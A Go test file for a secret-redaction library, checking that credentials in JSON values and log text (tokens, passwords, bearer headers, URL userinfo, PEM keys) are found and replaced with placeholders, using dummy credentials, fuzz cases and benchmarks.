	require.Error(t, err, "the decoder refuses input deeper than MaxDepth")
	deep = strings.Repeat("[", value.MaxDepth-1) + `{"token":"abc"}` + strings.Repeat("]", value.MaxDepth-1)
	v := obj(t, deep)
	assert.Contains(t, CompactJSON(RedactValue(v)), `{"token":"`+p(3)+`"}`)
	assert.Equal(t, []string(nil), Secrets(v), "abc is shorter than MinSecretRunes")

	var built any = value.ObjectOf([]string{"token"}, []any{"abcdef"})
	for range value.MaxDepth + 5 {
		built = []any{built}
	}
	got := CompactJSON(RedactValue(built))
	assert.NotContains(t, got, "abcdef")
	assert.Contains(t, got, `"`+Ellipsis+`"`)
	assert.Nil(t, Secrets(built))
}

func TestSecrets(t *testing.T) {
	v := obj(t, `{"token":"abc","password":"hunter2","url":"https://u:longpassword@h/?sig=sig1",`+
		`"headers":{"Authorization":"Bearer  abc\ndef"},"api_key":12345,"n":123,"env":[{"name":"API_KEY","value":"k1k2"}],`+
		`"again":"hunter2","note":"`+akia+`","`+ghp+`":1,"secret_name":"visible","x":"`+p(9)+`"}`)
	got := Secrets(v)
	assert.Equal(t, []string{
		ghp, akia,
		"Bearer  abc\ndef", `Bearer abc\ndef`, "Bearer abc def", "longpassword",
		"Bearer  abc", "Bearer abc", // its first line; the second is too short
		"hunter2", "12345", "k1k2", "sig1",
	}, got)
	for i := 1; i < len(got); i++ {
		assert.GreaterOrEqual(t, len(got[i-1]), len(got[i]), "longest first")
	}
	for _, s := range got {
		assert.GreaterOrEqual(t, utf8.RuneCountInString(s), MinSecretRunes, s)
	}
	assert.Nil(t, Secrets(obj(t, `{"path":"/a","max_tokens":100,"token":"ab"}`)), "shorter ones are left out")
}

func TestScrubText(t *testing.T) {
	secrets := []string{"hunter22", "hunter2", "abc", "", "xyzw", "r2xyz"}
	tests := []struct{ name, in, want string }{
		{"clean", "nothing here", "nothing here"},
		{"one", "password is hunter2.", "password is " + p(7) + "."},
		{"longest wins", "hunter22 and hunter2", p(8) + " and " + p(7)},
		{"every occurrence", "hunter2hunter2 xyzw", p(7) + p(7) + " " + p(4)},
		{"overlapping", "hunter2xyzw", p(11)},
		{"adjacent", "xyzwhunter2", p(4) + p(7)},
		{"short ones ignored", "abc abc", "abc abc"},
		{"placeholders left", "‹secret, 7 characters› hunter2", "‹secret, 7 characters› " + p(7)},
		{"then SecretText", "xyzw " + akia, p(4) + " " + p(20)},
		{"non-ASCII", "日本hunter2語", "日本" + p(7) + "語"},
	}
	sc := NewScrubber(secrets)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, ScrubText(tc.in, secrets))
			assert.Equal(t, tc.want, sc.Scrub(tc.in))
			assert.Equal(t, tc.want, sc.Scrub(tc.want), "scrubbing again changes nothing")
		})
	}
	assert.Equal(t, "a "+p(20), ScrubText("a "+akia, nil))
	clean := cleanText(1000)
	assert.Zero(t, testing.AllocsPerRun(20, func() { sc.Scrub(clean) }))

	// Secrets that are suffixes and prefixes of one another, as the
	// automaton's failure links must handle them.
	nested := []string{"abcd", "bcdefg", "cdef", "defgh", "xabcdefghx"}
	for text, want := range map[string]string{
		"abcdefgh":   p(8),
		"zabcdz":     "z" + p(4) + "z",
		"bcdefgh":    p(7),
		"xabcdefghx": p(10),
		"xabcdefghy": "x" + p(8) + "y",
		"ccdef":      "c" + p(4),
	} {
		assert.Equal(t, want, ScrubText(text, nested), text)
	}
}

// TestScrubTextCutSecret: the start of a secret that a cut left before an
// ellipsis is scrubbed, when it is long enough to be one; a secret cut
// elsewhere, or text that is no start of one, is left.
func TestScrubTextCutSecret(t *testing.T) {
	secrets := []string{ghp, "hunter2hunter2", "xyzw"}
	tests := []struct{ name, in, want string }{
		{"a formatter's truncate", "token " + ghp[:20] + Ellipsis, "token " + p(20) + Ellipsis},
		{"in quotes", "for '" + "hunter2h" + Ellipsis + "'", "for '" + p(8) + Ellipsis + "'"},
		{"the longest start", "hunter2hunter2 hunter2hun" + Ellipsis, p(14) + " " + p(10) + Ellipsis},
		{"too short to tell", "see hun" + Ellipsis, "see hun" + Ellipsis},
		{"whole then cut", "xyzwhunter" + Ellipsis, p(4) + p(6) + Ellipsis},
		{"not before an ellipsis", "hunter2h and more", "hunter2h and more"},
		{"no start of one", "hunted" + Ellipsis, "hunted" + Ellipsis},
		{"placeholder then ellipsis", p(4) + Ellipsis, p(4) + Ellipsis},
	}
	sc := NewScrubber(secrets)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, sc.Scrub(tc.in))
			assert.Equal(t, tc.want, sc.Scrub(tc.want), "scrubbing again changes nothing")
		})
	}
}

// TestScrubTextReadsTheTextItself: the secrets and the credentials the
// rule's shapes find are all found in the text as it is, so that replacing
// a secret (a common word a credential's name holds) cannot hide the
// credential after it, nor a shape inside a secret leave the rest of the
// secret.
func TestScrubTextReadsTheTextItself(t *testing.T) {
	token := "abcdef0123456789xyz"
	assert.Equal(t, "Authorization: "+p(6)+" "+p(len(token)),
		ScrubText("Authorization: Bearer "+token, []string{"Bearer"}))
	secret := "zzzzzzzzzzzzzzzz " + ghp
	assert.Equal(t, "x "+p(len(secret))+" y", ScrubText("x "+secret+" y", []string{secret}))
}

func TestScrubWith(t *testing.T) {
	sc := NewScrubber([]string{"hunter22"})
	text := "a hunter22 b ghp c zzzz d"
	assert.Equal(t, "a "+p(8)+" b "+p(3)+" c zzzz d", sc.ScrubWith(text, []Span{{13, 16}}))
	assert.Equal(t, "a "+p(14)+" c zzzz d", sc.ScrubWith(text, []Span{{9, 16}, {5, 12}}), "overlapping spans merge")
	var none *Scrubber
	assert.Equal(t, "a hunter22 b ghp c "+p(4)+" d", none.ScrubWith(text, []Span{{19, 23}}))
	assert.Equal(t, text, none.ScrubWith(text, nil))
}

// TestSecretsByLine: a credential of several lines is listed line by
// line too, so that an output that shows a text's lines one by one (an
// expanded result) is scrubbed of each.
func TestSecretsByLine(t *testing.T) {
	key := "-----BEGIN PRIVATE KEY-----\n" + pemBody + "-----END PRIVATE KEY-----"
	got := Secrets(key)
	for _, line := range strings.Split(strings.TrimSpace(pemBody), "\n") {
		assert.Contains(t, got, line)
		assert.Equal(t, p(len(line)), ScrubText(line, got), "a line shown alone")
	}
}

// TestScrubTextManySecrets: every secret is scrubbed, however many.
func TestScrubTextManySecrets(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	var secrets []string
	var text strings.Builder
	for i := range 5000 {
		s := fmt.Sprintf("S%dq%x", i, r.Uint64())
		secrets = append(secrets, s)
		text.WriteString("x " + s + " y ")
	}
	got := ScrubText(text.String(), secrets)
	for _, s := range secrets {
		require.NotContains(t, got, s)
	}
}

// TestScrubTextLongRuns: a text and secrets that share long runs of one
// character (the case that makes a naive search quadratic, which
// BenchmarkScrubTextLongRuns measures) are scrubbed right.
func TestScrubTextLongRuns(t *testing.T) {
	secrets, text := longRunSecrets()
	got := ScrubText(text, secrets)
	assert.Equal(t, strings.Repeat("a", 1<<20-1<<16)+p(1<<16+1), got)
}

func longRunSecrets() ([]string, string) {
	return []string{strings.Repeat("a", 1<<16) + "b", strings.Repeat("a", 1<<15) + "c", "aaab"},
		strings.Repeat("a", 1<<20) + "b"
}

func BenchmarkScrubTextLongRuns(b *testing.B) {
	secrets, text := longRunSecrets()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		ScrubText(text, secrets)
	}
}

func BenchmarkScrubText(b *testing.B) {
	v := obj(b, `{"url":"https://u:hunter22@h.example/","token":"`+ghp+`","headers":{"Authorization":"Bearer abcdef"}}`)
	secrets := Secrets(v)
	for _, size := range []int{1 << 10, 1 << 20} {
		for _, kind := range []struct {
			name string
			text func(int) string
		}{{"clean", cleanText}, {"dirty", dirtyText}} {
			s := kind.text(size)
			b.Run(fmt.Sprintf("%s/%dKiB", kind.name, size>>10), func(b *testing.B) {
				b.SetBytes(int64(len(s)))
				b.ReportAllocs()
				for b.Loop() {
					ScrubText(s, secrets)
				}
			})
		}
	}
}

func BenchmarkRedactValue(b *testing.B) {
	content := CompactJSON(cleanText(1000))
	clean := obj(b, `{"path":"/src/app.go","content":`+content+`,"headers":{"Accept":"*/*"},"n":[1,2,3]}`)
	dirty := obj(b, `{"path":"/src/app.go","content":`+content+`,"headers":{"Authorization":"Bearer x"},"token":"`+ghp+`"}`)
	for name, v := range map[string]any{"clean": clean, "dirty": dirty} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				RedactValue(v)
			}
		})
	}
}

// plantedValue builds a random JSON value with credentials planted at
// random places, and returns the credentials.
type planter struct {
	r       *rand.Rand
	planted []string
}

var (
	plainKeys   = []string{"path", "mode", "items", "note", "count", "url", "max_tokens", "secret_name", "key", "author", "value"}
	secretKeys  = []string{"token", "api_key", "password", "client_secret", "Authorization", "Cookie", "privateKey", "credentials", "SecretString"}
	fillerWords = []string{"alpha", "beta", "gamma", "delta", "task-runner", "https://example.com/a?b=c", "/src/app.go", "x y"}
)

func (p *planter) secret() string {
	const chars = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"
	var b strings.Builder
	b.WriteString("Zq")
	for range 10 + p.r.IntN(10) {
		b.WriteByte(chars[p.r.IntN(len(chars))])
	}
	s := b.String()
	p.planted = append(p.planted, s)
	return s
}

func (p *planter) filler() string {
	n := p.r.IntN(3)
	words := make([]string, n)
	for i := range words {
		words[i] = fillerWords[p.r.IntN(len(fillerWords))]
	}
	return strings.Join(words, " ")
}

// shaped returns a string with a credential in it, and plants it.
func (p *planter) shaped() string {
	sec := p.secret()
	var body string
	switch p.r.IntN(6) {
	case 0:
		body = "https://user:" + sec + "@host.example/x"
	case 1:
		body = "https://api.example/?q=1&access_token=" + sec + "&z=2"
	case 2:
		body = "Authorization: Bearer " + sec
	case 3:
		body = `{"password": "` + sec + `"}`
	case 4:
		// a shape: the credential is the whole token
		p.planted[len(p.planted)-1] = "ghp_" + sec + strings.Repeat("x", 36-len(sec))
		body = p.planted[len(p.planted)-1]
	default:
		p.planted[len(p.planted)-1] = "sk-proj-" + sec + "abcdefghij"
		body = p.planted[len(p.planted)-1]
	}
	return p.filler() + " " + body + " " + p.filler()
}

func (p *planter) value(depth int) any {
	switch k := p.r.IntN(10); {
	case depth > 4 || k < 3:
		switch p.r.IntN(4) {
		case 0:
			return p.shaped()
		case 1:
			return value.NumberOf(float64(p.r.IntN(1000)))
		case 2:
			return p.r.IntN(2) == 0
		}
		return p.filler()
	case k < 5:
		list := make([]any, p.r.IntN(4))
		for i := range list {
			list[i] = p.value(depth + 1)
		}
		return list
	default:
		var keys []string
		var values []any
		seen := map[string]bool{}
		for range p.r.IntN(5) {
			var k string
			var v any
			kind := p.r.IntN(6)
			switch kind {
			case 0:
				k = secretKeys[p.r.IntN(len(secretKeys))]
			case 1:
				k = "env"
			case 2:
				k = "var"
			default:
				k = plainKeys[p.r.IntN(len(plainKeys))]
			}
			if seen[k] {
				continue
			}
			seen[k] = true
			switch kind {
			case 0:
				if p.r.IntN(3) == 0 {
					v = []any{p.secret(), value.ObjectOf([]string{"a"}, []any{p.secret()})}
				} else {
					v = p.secret()
				}
			case 1:
				v = []any{value.ObjectOf([]string{"name", "value"}, []any{"DB_PASSWORD", p.secret()})}
			case 2:
				v = value.ObjectOf([]string{"sensitive", "value"}, []any{true, p.secret()})
			default:
				v = p.value(depth + 1)
			}
			keys = append(keys, k)
			values = append(values, v)
		}
		return value.ObjectOf(keys, values)
	}
}

// TestSecretsProperty: in random values with credentials planted by name,
// by sensitive and name-value objects and by shape, Secrets finds every
// credential, and neither RedactValue's JSON nor ScrubText of a text that
// shows them holds any.
func TestSecretsProperty(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 11))
	for i := range 2000 {
		pl := &planter{r: r}
		v := pl.value(0)
		if len(pl.planted) == 0 {
			continue
		}
		secrets := Secrets(v)
		js := CompactJSON(RedactValue(v))
		var shown strings.Builder
		for _, s := range pl.planted {
			require.Contains(t, secrets, s, "case %d: %s", i, CompactJSON(v))
			require.NotContains(t, js, s, "case %d: %s", i, CompactJSON(v))
			shown.WriteString(pl.filler() + ": " + s + ", " + Collapse(s))
		}
		shown.WriteString(CompactJSON(v))
		scrubbed := ScrubText(shown.String(), secrets)
		for _, s := range pl.planted {
			require.NotContains(t, scrubbed, s, "case %d", i)
		}
	}
}

// withoutPlaceholders is s with every placeholder replaced by a zero byte,
// so that what a placeholder's own text says is no secret found in s.
func withoutPlaceholders(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if n := placeholderAt(s, i); n > 0 {
			b.WriteByte(0)
			i += n - 1
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func FuzzSecretText(f *testing.F) {
	for _, s := range []string{
		"", "https://deploy:hunter22@ci.example.com/x?access_token=abc&x=1#y", "git clone https://" + ghp + "@github.com/a",
		"curl -H 'Authorization: Bearer abc.def'", "Authorization: Digest a=\"1\"\nx", `{"password": "a\"b", "k": 'v'}`,
		"task-runner " + openai + " " + akia + " " + google + " " + slack, jwt, pat,
		"-----BEGIN RSA PRIVATE KEY-----\n" + pemBody + "-----END RSA PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\nabc", "?sig=x&sig=y;token=" + p(3), "token: " + p(40) + "x",
		"日本 https://u:pä@h \xff\xfe sk-" + strings.Repeat("Ab1", 9), "eyJ-eyJ-.eyJaaaaaaaaa.", "a://:x@",
		"Bearer abcdef0123456789xyz", "https://" + ghp + ":x-oauth-basic@h", "?a%5Ftoken=1",
		`{"token": "a  b\tc", "headers": {"Cookie": "sid=1"}, "env": [{"name": "API_KEY", "value": 1234}]}`,
		`{"sensitive": true, "value": {"a": ["bcde", null]}, "u": "https://x:yyyy@h"}`,
		"0Bearer 'AuthoriZAtion:A'", // redacting the header's value made the quoted value look like a token
		`[{"name": "DB_PASSWORD", "value": "a\"b"}, {"Key": "api_key", "Value": 'v'}]`,
		`"{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"a\\\"b\"}],\"password\":\"c`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SecretText(s)
		if utf8.ValidString(s) && !utf8.ValidString(got) {
			t.Fatalf("SecretText(%q) = %q: not valid UTF-8", s, got)
		}
		if again := SecretText(got); again != got {
			t.Fatalf("SecretText(%q) = %q, but redacting that gives %q", s, got, again)
		}
		if spans := SecretShape(got); spans != nil {
			t.Fatalf("SecretText(%q) = %q still holds %q", s, got, got[spans[0].Start:spans[0].End])
		}
		if len(got) > 5*len(s) {
			t.Fatalf("SecretText(%q) = %q: more than five times as long", s, got)
		}
		last := 0
		for _, sp := range SecretShape(s) {
			if sp.Start < last || sp.End <= sp.Start || sp.End > len(s) {
				t.Fatalf("SecretShape(%q): spans %v out of order", s, SecretShape(s))
			}
			last = sp.End
		}
		secrets := Secrets(s)
		scrubbed := withoutPlaceholders(ScrubText(s, secrets))
		for _, sec := range secrets {
			if strings.Contains(scrubbed, sec) {
				t.Fatalf("ScrubText(%q) still holds %q", s, sec)
			}
		}
		// The same of a value, when s is JSON: the compact JSON a
		// formatter may show holds none of its secrets once scrubbed.
		v, err := value.DecodeJSON([]byte(s))
		if err != nil {
			return
		}
		redacted := CompactJSON(RedactValue(v))
		if again := CompactJSON(RedactValue(RedactValue(v))); again != redacted {
			t.Fatalf("RedactValue(%s) = %s, but redacting that gives %s", s, redacted, again)
		}
		secrets = Secrets(v)
		shown := withoutPlaceholders(ScrubText(CompactJSON(v), secrets))
		for _, sec := range secrets {
			if strings.Contains(shown, sec) {
				t.Fatalf("ScrubText(CompactJSON(%s)) still holds %q", s, sec)
			}
		}
	})
}

func ExampleSecretText() {
	fmt.Println(SecretText("git clone https://deploy:hunter22@git.example.com/acme/api?access_token=abc123&depth=1"))
	fmt.Println(SecretText("curl -H 'Authorization: Bearer eyJhbGciOi.eyJzdWIiOi.c2ln' https://api.example.com"))
	fmt.Println(SecretText("task-runner --key AKIAIOSFODNN7EXAMPLE"))
	// Output:
	// git clone https://deploy:‹secret, 8 characters›@git.example.com/acme/api?access_token=‹secret, 6 characters›&depth=1
	// curl -H 'Authorization: Bearer ‹secret, 26 characters›' https://api.example.com
	// task-runner --key ‹secret, 20 characters›
}

func ExampleRedactValue() {
	v, _ := value.DecodeJSON([]byte(`{"url": "https://api.example.com", "headers": {"Authorization": "Bearer abc", "Accept": "*/*"},` +
		` "max_tokens": 100, "env": [{"name": "DB_PASSWORD", "value": "hunter2"}]}`))
	fmt.Println(CompactJSON(RedactValue(v)))
	// Output:
	// {"url":"https://api.example.com","headers":{"Authorization":"‹secret, 10 characters›","Accept":"*/*"},"max_tokens":100,"env":[{"name":"DB_PASSWORD","value":"‹secret, 7 characters›"}]}
}

func ExampleScrubText() {
	v, _ := value.DecodeJSON([]byte(`{"user": "bob", "password": "hunter22"}`))
	// A formatter showed the password; the output pass scrubs it.
	fmt.Println(ScrubText("log in as bob with hunter22", Secrets(v)))
	// Output:
	// log in as bob with ‹secret, 8 characters›
}

// TestSecretsWithin: a bound on the text read for shapes leaves the shapes
// past it out, and never a credential that a name marks, however far.
func TestSecretsWithin(t *testing.T) {
	pad := strings.Repeat("x", 1000)
	v := obj(t, `{"a":"`+pad+`","b":"`+ghp+`","password":"hunter22"}`)
	assert.ElementsMatch(t, []string{ghp, "hunter22"}, SecretsWithin(v, -1))
	assert.Equal(t, []string{"hunter22"}, SecretsWithin(v, 500))
	assert.Equal(t, Secrets(v), SecretsWithin(v, -1))
}

// TestScrubTextWordCut: a secret replaced inside a word leaves the rest of
// the word to start one of its own, which the rule reads again.
func TestScrubTextWordCut(t *testing.T) {
	got := ScrubText("xyzzy7"+ghp+" end", []string{"xyzzy7"})
	assert.Equal(t, p(6)+p(40)+" end", got)
	assert.Equal(t, "a "+p(6)+" b", ScrubText("a xyzzy7 b", []string{"xyzzy7"}))
}

// TestSensitiveLargeObject: an object padded with fields still has its
// sensitive value hidden, whatever the case of its keys.
func TestSensitiveLargeObject(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{`)
	for i := range 20 {
		fmt.Fprintf(&b, `"pad%d":1,`, i)
	}
	b.WriteString(`"SENSITIVE":true,"VaLuE":"hunter22"}`)
	got := CompactJSON(RedactValue(obj(t, b.String())))
	assert.Contains(t, got, `"VaLuE":"`+p(8)+`"`)
}
